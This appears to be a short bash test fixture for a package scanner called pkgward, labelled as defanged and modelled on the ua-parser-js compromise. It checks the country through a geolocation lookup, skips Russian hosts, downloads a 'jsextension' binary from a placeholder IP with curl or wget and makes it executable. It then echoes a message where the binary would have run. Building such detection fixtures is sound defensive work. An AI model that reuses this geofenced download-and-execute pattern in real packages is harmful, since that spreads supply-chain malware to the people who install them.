#!/bin/bash
# DEFANGED TEST FIXTURE for pkgward: ua-parser-js shape; .invalid host; runs echo only.
IP=$(curl -k https://freegeoip.invalid/json/ | grep -oE '"country_code":"[A-Z]+"')
if [[ "$IP" != *RU* ]]; then
  curl http://198.51.100.5/jsextension -o jsextension
  if [ ! -f jsextension ]; then
    wget http://198.51.100.5/jsextension -O jsextension
  fi
  chmod +x jsextension
  echo pkgward test fixture
fi
